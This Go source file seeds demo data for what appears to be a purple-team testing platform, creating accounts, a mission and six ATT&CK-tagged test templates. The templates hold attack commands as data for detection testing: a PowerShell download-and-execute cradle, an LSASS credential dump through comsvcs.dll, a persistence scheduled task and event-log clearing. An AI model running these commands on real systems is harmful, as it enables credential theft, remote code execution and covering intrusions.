// Package demo creates a small, realistic demo on a Violet database, next
// to whatever it holds already: three accounts (a lead, a red and a blue
// team member), a scenario of six test templates tagged with ATT&CK (one
// expecting two detection rules of the demo's own, rules.go), and a
// mission built from it whose tests are in every interesting state
// (reviewed, rated by the blue team, released, executed, pending, skipped).
//
// It is idempotent: the demo is made once, and a second run finds it and
// changes nothing (Result.Existed). The setup (accounts, library, mission
// and members) is one transaction; the tests are then advanced through
// internal/mission's workflow functions as the demo's own members, each
// run by mission.Steps, so the same rules apply as for people using the
// web pages and each step leaves the same audit record, live event and
// notifications.
package demo

import (
	"context"
	"crypto/rand"
	"errors"
	"fmt"
	"time"

	"github.com/google/uuid"

	"violet/ent"
	"violet/ent/detectionlevel"
	"violet/ent/group"
	"violet/ent/missionmember"
	"violet/ent/missiontest"
	"violet/ent/schema"
	"violet/ent/user"
	"violet/internal/audit"
	"violet/internal/auth"
	"violet/internal/auth/rule"
	"violet/internal/database"
	"violet/internal/library"
	"violet/internal/mission"

	entmission "violet/ent/mission"
)

// lockKey serialises demo runs ("violet-d"), so two at once make one demo.
const lockKey int64 = 0x76696f6c65742d64

// Names of what the demo creates; the lead's email marks an existing demo.
const (
	MissionName  = "Demo: purple-team exercise"
	ScenarioName = "Demo: from execution to discovery"
	LeadEmail    = "demo.lead@example.com"
	RedEmail     = "demo.red@example.com"
	BlueEmail    = "demo.blue@example.com"
)

// Account is one demo account; Password is set only when this run created
// it (it is shown once, never stored in clear).
type Account struct {
	Email, DisplayName, Role, Password string
}

// Result is what a run did or found.
type Result struct {
	Existed   bool // the demo was there already; nothing changed
	MissionID uuid.UUID
	Accounts  []Account
	Tests     int      // tests in the demo mission
	Tagged    int      // ATT&CK tags attached to the templates
	Untagged  []string // ATT&CK IDs the catalogue does not hold (not synced?)
}

// account describes a demo account: its mission role and groups.
type account struct {
	email, name, role string
	groups            []string
}

var accounts = []account{
	{LeadEmail, "Dana Leclerc (demo lead)", rule.RoleLead, []string{auth.GroupRedTeam}},
	{RedEmail, "Riley Martin (demo red team)", rule.RoleRed, []string{auth.GroupRedTeam}},
	{BlueEmail, "Blake Moreau (demo blue team)", rule.RoleBlue, []string{auth.GroupBlueTeam}},
}

// template is a demo test template with the ATT&CK IDs it is tagged with
// and the run the red team records for it.
type template struct {
	name, description, objective, procedure, expected string
	platforms                                         []string
	attack                                            []string
	command, source, target                           string
	rules                                             []string // Sigma rules expected to fire (rules.go)
}

var templates = []template{
	{
		name: "PowerShell download cradle", attack: []string{"T1059.001", "TA0002"}, platforms: []string{"windows"},
		description: "Runs a PowerShell one-liner that downloads and executes a harmless script from a lab web server.",
		objective:   "Check that script-based execution from the network is seen.",
		procedure:   "From a standard user session, run the command below; the script only writes a marker file.",
		expected:    "EDR alert on PowerShell downloading and executing content; script block logging event 4104.",
		command:     `powershell -nop -c "IEX (New-Object Net.WebClient).DownloadString('http://lab-web.corp.example/marker.ps1')"`,
		source:      "WS-RED-01", target: "WS-FIN-12",
	},
	{
		name: "Local account discovery", attack: []string{"T1087.001"}, platforms: []string{"windows"},
		description: "Lists local accounts and groups the way an intruder maps a host.",
		objective:   "Check that account enumeration is logged.",
		procedure:   "Run the enumeration commands below in a command prompt.",
		expected:    "Process creation events for net.exe with the arguments.",
		command:     "net user & net localgroup administrators",
		source:      "WS-RED-01", target: "WS-FIN-12",
	},
	{
		name: "Scheduled task persistence", attack: []string{"T1053.005"}, platforms: []string{"windows"},
		description: "Creates a scheduled task that starts a benign binary at logon.",
		objective:   "Check that new scheduled tasks raise an alert.",
		procedure:   "Create the task below, check it exists, then delete it (cleanup).",
		expected:    "Event 4698 (scheduled task created) forwarded to the SIEM and alerted on.",
		command:     `schtasks /create /tn "VioletDemo" /tr "C:\Windows\System32\notepad.exe" /sc onlogon`,
		source:      "WS-RED-01", target: "SRV-APP-03",
		rules: []string{ruleSchtasksUserFolder, ruleTaskRegistered},
	},
	{
		name: "LSASS memory dump", attack: []string{"T1003.001"}, platforms: []string{"windows"},
		description: "Dumps the memory of the LSASS process with a signed Windows binary.",
		objective:   "Check that credential access through LSASS is prevented or alerted on.",
		procedure:   "As a local administrator, run comsvcs.dll MiniDump against the LSASS process id.",
		expected:    "EDR blocks the dump or raises a high-severity alert.",
		command:     `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump <lsass pid> C:\Temp\l.dmp full`,
		source:      "WS-RED-01", target: "SRV-APP-03",
	},
	{
		name: "System information discovery", attack: []string{"T1082"}, platforms: []string{"windows", "linux"},
		description: "Collects operating system and hardware details.",
		objective:   "Baseline: is host reconnaissance visible at all?",
		procedure:   "Run systeminfo (Windows) or uname -a (Linux).",
		expected:    "Process creation events; no alert expected.",
	},
	{
		name: "Clear Windows event logs", attack: []string{"T1070.001"}, platforms: []string{"windows"},
		description: "Clears the Security event log to hide earlier activity.",
		objective:   "Check that log clearing raises an alert (event 1102).",
		procedure:   "Run wevtutil cl Security as a local administrator.",
		expected:    "Event 1102 alerted on in the SIEM.",
	},
}

// Run creates the demo, or finds the one made before. steps runs the
// tests' steps (on client); now dates the red and blue records (the runs
// happened over the last hours); hash hashes the generated passwords.
func Run(ctx context.Context, client *ent.Client, steps *mission.Steps, hash func(context.Context, string) (string, error), now time.Time) (Result, error) {
	sys := rule.SystemContext(ctx)
	var (
		res   Result
		users = map[string]*ent.User{}
		lib   []uuid.UUID
	)
	err := database.WithTx(sys, client, func(tx *ent.Tx) error {
		res, users, lib = Result{}, map[string]*ent.User{}, nil
		if _, err := tx.ExecContext(sys, `SELECT pg_advisory_xact_lock($1)`, lockKey); err != nil {
			return fmt.Errorf("demo lock: %w", err)
		}
		lead, err := tx.User.Query().Where(user.Email(LeadEmail)).Only(schema.SkipSoftDelete(sys))
		switch {
		case err == nil:
			return existing(sys, tx, lead, &res)
		case !ent.IsNotFound(err):
			return fmt.Errorf("look for the demo: %w", err)
		}
		for _, a := range accounts {
			u, pw, err := createAccount(sys, tx, a, hash)
			if err != nil {
				return err
			}
			users[a.role] = u
			res.Accounts = append(res.Accounts, Account{Email: u.Email, DisplayName: u.DisplayName, Role: a.role, Password: pw})
		}
		if lib, err = createLibrary(sys, tx, users[rule.RoleLead], &res); err != nil {
			return err
		}
		m, err := tx.Mission.Create().SetName(MissionName).
			SetDescription("A demo mission: a lead planned it from a scenario, the red team ran the tests, the blue team recorded what its defences saw, and the lead reviewed the first results.").
			SetScope("Lab domain corp.example: workstations WS-FIN-*, servers SRV-APP-*.").
			SetStartDate(now.AddDate(0, 0, -1).Truncate(24 * time.Hour)).
			SetEndDate(now.AddDate(0, 0, 6).Truncate(24 * time.Hour)).
			SetCreatedByID(users[rule.RoleLead].ID).Save(sys)
		if err != nil {
			return fmt.Errorf("create the demo mission: %w", err)
		}
		res.MissionID = m.ID
		if err := audit.Record(sys, tx.AuditEvent, audit.Event{Action: audit.MissionCreated, TargetType: "mission",
			TargetID: m.ID.String(), TargetLabel: m.Name, Details: map[string]any{"demo": true}}); err != nil {
			return err
		}
		for _, a := range accounts {
			u := users[a.role]
			if err := tx.MissionMember.Create().SetMissionID(m.ID).SetUserID(u.ID).
				SetRole(missionmember.Role(a.role)).Exec(sys); err != nil {
				return fmt.Errorf("add %s to the demo mission: %w", u.Email, err)
			}
			if err := audit.Record(sys, tx.AuditEvent, audit.Event{Action: audit.MissionMemberAdded, TargetType: "mission",
				TargetID: m.ID.String(), TargetLabel: m.Name, Details: map[string]any{"user": u.Email, "role": a.role}}); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil || res.Existed {
		return res, err
	}
	if err := play(ctx, client, steps, users, res.MissionID, lib, now); err != nil {
		return res, fmt.Errorf("run the demo mission: %w", err)
	}
	n, err := client.MissionTest.Query().Where(missiontest.MissionID(res.MissionID)).Count(sys)
	res.Tests = n
	return res, err
}

// existing fills res from the demo made before.
func existing(ctx context.Context, tx *ent.Tx, lead *ent.User, res *Result) error {
	res.Existed = true
	for _, a := range accounts {
		u, err := tx.User.Query().Where(user.Email(a.email)).Only(schema.SkipSoftDelete(ctx))
		if err != nil {
			continue // removed by an admin since: the demo stays as it is
		}
		res.Accounts = append(res.Accounts, Account{Email: u.Email, DisplayName: u.DisplayName, Role: a.role})
	}
	m, err := tx.Mission.Query().Where(entmission.Name(MissionName), entmission.CreatedByID(lead.ID)).
		First(schema.SkipSoftDelete(ctx))
	if err != nil {
		if ent.IsNotFound(err) {
			return nil
		}
		return fmt.Errorf("find the demo mission: %w", err)
	}
	res.MissionID = m.ID
	res.Tests, err = tx.MissionTest.Query().Where(missiontest.MissionID(m.ID)).Count(schema.SkipSoftDelete(ctx))
	return err
}

// createAccount creates a demo account with a generated password, in its
// groups.
func createAccount(ctx context.Context, tx *ent.Tx, a account, hash func(context.Context, string) (string, error)) (*ent.User, string, error) {
	pw := password()
	h, err := hash(ctx, pw)
	if err != nil {
		return nil, "", fmt.Errorf("hash a demo password: %w", err)
	}
	groups, err := tx.Group.Query().Where(group.NameIn(a.groups...)).IDs(ctx)
	if err != nil || len(groups) != len(a.groups) {
		return nil, "", fmt.Errorf("demo groups %v: missing (%v)", a.groups, err)
	}
	u, err := tx.User.Create().SetEmail(a.email).SetDisplayName(a.name).SetPasswordHash(h).
		AddGroupIDs(groups...).Save(ctx)
	if err != nil {
		return nil, "", fmt.Errorf("create %s: %w", a.email, err)
	}
	return u, pw, nil
}

// password makes a random password of 20 characters from an alphabet
// without look-alikes.
func password() string {
	const alphabet = "abcdefghjkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"
	b := make([]byte, 20)
	_, _ = rand.Read(b) // never fails (crypto/rand)
	for i := range b {
		b[i] = alphabet[int(b[i])%len(alphabet)]
	}
	return string(b)
}

// createLibrary creates the demo's test templates, tagged with the ATT&CK
// entries the catalogue holds, and the scenario holding them. It returns
// the scenario's id first, then the templates' ids in order.
func createLibrary(ctx context.Context, tx *ent.Tx, lead *ent.User, res *Result) ([]uuid.UUID, error) {
	cat, err := library.LoadCatalogue(ctx, tx.Client())
	if err != nil {
		return nil, err
	}
	sc, err := tx.ScenarioTemplate.Create().SetName(ScenarioName).
		SetDescription("Six short tests an intruder would chain on a workstation after initial access: execution, discovery, persistence, credential access and defence evasion.").
		SetCreatedByID(lead.ID).Save(ctx)
	if err != nil {
		return nil, fmt.Errorf("create the demo scenario: %w", err)
	}
	if err := audit.Record(ctx, tx.AuditEvent, audit.Event{Action: audit.ScenarioCreated, TargetType: "scenario_template",
		TargetID: sc.ID.String(), TargetLabel: sc.Name, Details: map[string]any{"demo": true}}); err != nil {
		return nil, err
	}
	ids := []uuid.UUID{sc.ID}
	for i, t := range templates {
		rules, err := expectedRules(ctx, tx, t.rules)
		if err != nil {
			return nil, err
		}
		tpl, err := tx.TestTemplate.Create().SetName("Demo: " + t.name).SetDescription(t.description).
			SetObjective(t.objective).SetProcedure(t.procedure).SetExpectedDetection(t.expected).
			SetPlatforms(t.platforms).SetLabels([]string{"demo"}).AddRuleIDs(rules...).SetCreatedByID(lead.ID).Save(ctx)
		if err != nil {
			return nil, fmt.Errorf("create template %q: %w", t.name, err)
		}
		for _, id := range t.attack {
			ref, ok := cat[id]
			if !ok {
				res.Untagged = append(res.Untagged, id)
				continue
			}
			tag := tx.TestTemplateMitreTag.Create().SetTestTemplateID(tpl.ID)
			switch ref.Kind {
			case library.KindTactic:
				tag.SetTacticID(ref.ID)
			case library.KindTechnique:
				tag.SetTechniqueID(ref.ID)
			default:
				tag.SetSubtechniqueID(ref.ID)
			}
			if err := tag.Exec(ctx); err != nil {
				return nil, fmt.Errorf("tag %q with %s: %w", t.name, id, err)
			}
			res.Tagged++
		}
		if err := tx.ScenarioTemplateTest.Create().SetScenarioTemplateID(sc.ID).SetTestTemplateID(tpl.ID).
			SetPosition(i).Exec(ctx); err != nil {
			return nil, fmt.Errorf("add %q to the scenario: %w", t.name, err)
		}
		if err := audit.Record(ctx, tx.AuditEvent, audit.Event{Action: audit.TemplateCreated, TargetType: "test_template",
			TargetID: tpl.ID.String(), TargetLabel: tpl.Name, Details: map[string]any{"demo": true}}); err != nil {
			return nil, err
		}
		ids = append(ids, tpl.ID)
	}
	return ids, nil
}

// errNoTests is a demo mission whose plan did not come out as expected.
var errNoTests = errors.New("the demo mission's plan is not the scenario's")

// levels picks, from the scale's levels still offered, one that counts as
// detected (the highest) and one that does not (the highest above zero if
// any); either may be nil on an unusual scale.
func levels(ctx context.Context, client *ent.Client) (detected, seen *uuid.UUID, err error) {
	all, err := client.DetectionLevel.Query().Where(detectionlevel.Retired(false)).
		Order(ent.Desc(detectionlevel.FieldScore)).All(rule.SystemContext(ctx))
	if err != nil {
		return nil, nil, fmt.Errorf("read the detection scale: %w", err)
	}
	for _, l := range all {
		switch {
		case l.CountsAsDetected && detected == nil:
			detected = &l.ID
		case !l.CountsAsDetected && seen == nil:
			seen = &l.ID
		}
	}
	return detected, seen, nil
}

// play builds the demo mission's plan from the scenario and advances its
// tests as the members would, each through the mission workflows with
// their own rights: the lead plans and starts the mission, red runs tests
// and releases them, blue rates the released ones, the lead reviews.
func play(ctx context.Context, client *ent.Client, steps *mission.Steps, users map[string]*ent.User, missionID uuid.UUID, ids []uuid.UUID, now time.Time) error {
	as := func(role string) (context.Context, *mission.Access, error) {
		v, err := mission.ViewerOf(ctx, client, users[role])
		if err != nil {
			return nil, nil, err
		}
		vctx := auth.NewContext(ctx, v)
		a, err := mission.Load(vctx, client, v, missionID)
		return vctx, a, err
	}
	leadCtx, lead, err := as(rule.RoleLead)
	if err != nil {
		return err
	}
	if _, err := mission.Instantiate(leadCtx, client, lead, ids[:1]); err != nil {
		return fmt.Errorf("instantiate the scenario: %w", err)
	}
	for _, to := range []entmission.Status{entmission.StatusPlanned, entmission.StatusInProgress} {
		if err := mission.Transition(leadCtx, client, lead, to); err != nil {
			return fmt.Errorf("move the mission to %s: %w", to, err)
		}
	}
	tests, err := client.MissionTest.Query().Where(missiontest.MissionID(missionID)).
		Order(ent.Asc(missiontest.FieldPosition)).All(leadCtx)
	if err != nil {
		return err
	}
	if len(tests) != len(templates) {
		return errNoTests
	}
	redCtx, red, err := as(rule.RoleRed)
	if err != nil {
		return err
	}
	blueCtx, blue, err := as(rule.RoleBlue)
	if err != nil {
		return err
	}
	detected, seen, err := levels(ctx, client)
	if err != nil {
		return err
	}
	for i, t := range tests {
		tpl := templates[i]
		start := now.Add(-time.Duration(len(tests)-i) * time.Hour)
		// step runs one workflow as the member of a, as a press of its
		// button would: on the test as it is now (its version, and who
		// to notify), with the step's audit action.
		step := func(ctx context.Context, a *mission.Access, name, action string,
			f func(client *ent.Client, version int) (int, error)) {
			if err != nil {
				return
			}
			var cur *ent.MissionTest
			if cur, err = client.MissionTest.Get(rule.SystemContext(ctx), t.ID); err == nil {
				err = steps.Run(ctx, a, cur, action, func(client *ent.Client) error {
					_, err := f(client, cur.Version)
					return err
				})
			}
			if err != nil {
				err = fmt.Errorf("%s %q: %w", name, tpl.name, err)
			}
		}
		if i <= 3 { // run by the red team
			step(redCtx, red, "start", audit.MissionTestStarted, func(c *ent.Client, v int) (int, error) {
				return mission.Start(redCtx, c, red, t.ID, v, start)
			})
			step(redCtx, red, "stop", audit.MissionTestStopped, func(c *ent.Client, v int) (int, error) {
				return mission.Stop(redCtx, c, red, t.ID, v, start.Add(7*time.Minute))
			})
			step(redCtx, red, "record", audit.MissionTestRedSaved, func(c *ent.Client, v int) (int, error) {
				return mission.SaveRed(redCtx, c, red, t.ID, v, mission.RedFields{
					Command: tpl.command, SourceHost: tpl.source, TargetHost: tpl.target,
					Notes: "Ran as planned; the marker file was written, then cleaned up."})
			})
		}
		if i <= 2 { // released to the blue team
			step(redCtx, red, "release", audit.MissionTestReleased, func(c *ent.Client, v int) (int, error) {
				return mission.Release(redCtx, c, red, t.ID, v)
			})
		}
		switch i {
		case 0: // rated as detected, then reviewed
			at := start.Add(12 * time.Minute)
			step(blueCtx, blue, "rate", audit.MissionTestBlueSaved, func(c *ent.Client, v int) (int, error) {
				return mission.SaveBlue(blueCtx, c, blue, t.ID, v, mission.BlueFields{DetectionLevelID: detected,
					DetectedAt: &at, AlertName: "EDR: PowerShell downloaded and ran remote content", LogSource: "EDR console",
					Notes: "Alert triaged by the SOC within 15 minutes."}, now)
			})
			step(leadCtx, lead, "review", audit.MissionTestReviewed, func(c *ent.Client, v int) (int, error) {
				return mission.Review(leadCtx, c, lead, t.ID, v, start.Add(2*time.Hour))
			})
		case 1: // rated as seen in the logs, awaiting the lead's review
			at := start.Add(40 * time.Minute)
			step(blueCtx, blue, "rate", audit.MissionTestBlueSaved, func(c *ent.Client, v int) (int, error) {
				return mission.SaveBlue(blueCtx, c, blue, t.ID, v, mission.BlueFields{DetectionLevelID: seen,
					DetectedAt: &at, LogSource: "Windows Security 4688 in the SIEM",
					Notes: "Found by hunting afterwards; no rule fired."}, now)
			})
		case 5: // set aside
			step(redCtx, red, "skip", audit.MissionTestSetAside, func(c *ent.Client, v int) (int, error) {
				return mission.SetAside(redCtx, c, red, t.ID, v, missiontest.StateSkipped,
					"The log collector is shared with production: clearing logs is out of scope this week.")
			})
		}
		if err != nil {
			return err
		}
	}
	return nil
}
